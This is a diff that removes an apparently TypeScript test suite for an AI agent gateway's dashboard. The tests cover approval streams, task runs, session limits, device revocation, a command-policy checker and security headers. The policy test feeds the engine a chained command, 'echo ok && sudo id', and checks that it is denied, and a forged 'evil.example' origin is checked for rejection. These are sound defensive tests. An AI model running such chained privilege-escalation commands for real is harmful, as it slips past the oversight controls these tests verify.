-        'approval.answered',
-      );
-      expect(answered.data).toMatchObject({ by: 'terminal', verdict: 'deny' });
-      await waitFor(
-        () =>
-          !(stream.events.filter((e) => e.event === 'approvals').at(-1)!.data as Pending[]).some(
-            (a) => a.id === asked.data.id,
-          ),
-        'a pending list without the answered approval',
-      );
-      expect((await outcome).deniedReason).toContain('denied by terminal');
-    } finally {
-      stream.close();
-    }
-  });
-
-  it("an operator starts a task; the stream carries the model's text and the task's end", async () => {
-    const op = await loginWith(await loginUrl('operator'));
-    const stream = await EventStreamReader.open(op);
-    try {
-      anthropic.enqueue(
-        reply([text('Looking at the workspace.')]),
-        reply([toolUse('task_complete', { summary: 'looked' })]),
-      );
-      const { id } = await result<{ id: string }>(call(op, 'tasks.start', { prompt: 'look around' }));
-      await stream.next<{ taskId: string; type: string; text?: string }>(
-        'task',
-        (e) => e.taskId === id && e.type === 'text' && (e.text ?? '').includes('Looking'),
-        "the model's text",
-      );
-      await stream.next<{ taskId: string; type: string }>(
-        'task',
-        (e) => e.taskId === id && e.type === 'finished',
-        'the task finished',
-      );
-      const task = await result<{ origin: string; context: string }>(call(op, 'tasks.get', { id }));
-      expect(task).toMatchObject({ origin: `dashboard:${op.deviceId}`, context: 'gateway' });
-    } finally {
-      stream.close();
-    }
-  });
-
-  it('at most 4 streams per session', async () => {
-    const viewer = await loginWith(await loginUrl('viewer'));
-    const open = await Promise.all([1, 2, 3, 4].map(() => EventStreamReader.open(viewer)));
-    try {
-      expect(open.map((s) => s.response.status)).toEqual([200, 200, 200, 200]);
-      const fifth = await EventStreamReader.open(viewer);
-      expect(fifth.response.status).toBe(429);
-    } finally {
-      for (const s of open) s.close();
-    }
-  });
-
-  it('revoking a device ends its sessions and its stream at once, and its next login link is refused', async () => {
-    const admin = await loginWith(await loginUrl());
-    const viewer = await loginWith(await loginUrl('viewer'));
-    const unused = await loginUrl('viewer');
-    const stream = await EventStreamReader.open(viewer);
-    await stream.next('approvals', () => true, 'the stream running');
-    const devices = await result<{ id: string; name: string }[]>(call(admin, 'devices.list'));
-    expect(devices.find((d) => d.id === viewer.deviceId)?.name).toBe('dashboard (viewer)');
-    await result(call(admin, 'devices.revoke', { id: viewer.deviceId }));
-    await waitFor(() => stream.ended, 'the revoked session’s stream to end');
-    expect((await fetch(`${viewer.origin}/api/session`, { headers: { cookie: viewer.cookie } })).status).toBe(
-      401,
-    );
-    expect((await fetch(unused, { redirect: 'manual' })).status).toBe(401);
-    // The owner's next viewer login gets a fresh device.
-    const again = await loginWith(await loginUrl('viewer'));
-    expect(again.deviceId).not.toBe(viewer.deviceId);
-  });
-});
-
-describe('policy.check', () => {
-  it("gives the engine's verdict and reasons, in the session's gateway context, and asks nobody", async () => {
-    const viewer = await loginWith(await loginUrl('viewer'));
-    const stream = await EventStreamReader.open(viewer);
-    try {
-      const ids = () => running.controller.approvalsList().length;
-      const before = ids();
-      const lastId = (running.controller.timelineQuery({ limit: 1000 }) as { id: number }[]).at(-1)!.id;
-      for (const command of ['touch /workspace/checked.txt', 'echo ok && sudo id', 'ls /workspace']) {
-        const got = await result<{ verdict: string; reasons: string[]; context: string; layer: string }>(
-          call(viewer, 'policy.check', { command }),
-        );
-        const engine = checkPolicy({
-          request: command,
-          context: 'gateway',
-          config: defaultConfig(),
-          workspace: t.workspace,
-        });
-        expect(got, command).toMatchObject({
-          verdict: engine.effect,
-          reasons: engine.reasons,
-          layer: engine.layer,
-          context: 'gateway',
-        });
-      }
-      const sudo = await result<{ verdict: string; reasons: string[] }>(
-        call(viewer, 'policy.check', { command: 'sudo id' }),
-      );
-      expect(sudo.verdict).toBe('deny');
-      expect(sudo.reasons.join(' ')).toMatch(/sudo/);
-      expect(ids()).toBe(before);
-      const since = running.controller.timelineQuery({ afterId: lastId }) as { type: string }[];
-      expect(since.map((e) => e.type)).not.toContain('approval.asked');
-      expect(since.map((e) => e.type)).not.toContain('command.requested');
-      expect(existsSync(join(t.workspace, 'checked.txt'))).toBe(false);
-      const looser = await call(viewer, 'policy.check', { command: 'ls', context: 'local' });
-      expect(looser.status).toBe(403);
-      expect(await looser.text()).toMatch(/cannot ask for 'local'/);
-    } finally {
-      stream.close();
-    }
-  });
-});
-
-describe('headers', () => {
-  it('every kind of response carries the CSP and the security headers', async () => {
-    const admin = await loginWith(await loginUrl());
-    const h = { cookie: admin.cookie };
-    const responses: [string, Response][] = [
-      ['index', await fetch(`${base}`, { headers: h })],
-      ['css', await fetch(`${base}app.css`, { headers: h })],
-      ['session json', await fetch(`${base}api/session`, { headers: h })],
-      ['call result', await call(admin, 'status')],
-      ['403', await call(admin, 'status', {}, { origin: 'http://evil.example' })],
-      ['401', await fetch(`${base}api/session`)],
-      ['404', await fetch(`${base}nothing`, { headers: h })],
-      ['404 api', await fetch(`${base}api/nothing`, { headers: h })],
-      ['405', await fetch(`${base}api/call/status`, { headers: h })],
-      ['login 401', await fetch(`${base}login?token=nope`, { redirect: 'manual' })],
-    ];
-    for (const [what, r] of responses) {
-      expectSecurityHeaders(r.headers, what);
-      expect(r.headers.get('content-security-policy')).toBe(CSP);
-    }
-    expect(responses[0]![1].status).toBe(200);
-    expect(responses[0]![1].headers.get('content-type')).toBe('text/html; charset=utf-8');
-    expect(responses[1]![1].headers.get('content-type')).toBe('text/css; charset=utf-8');
-    expect(responses[3]![1].status).toBe(200);
-    expect(((await responses[3]![1].json()) as { result: { state: string } }).result.state).toBe('running');
-  });
-});
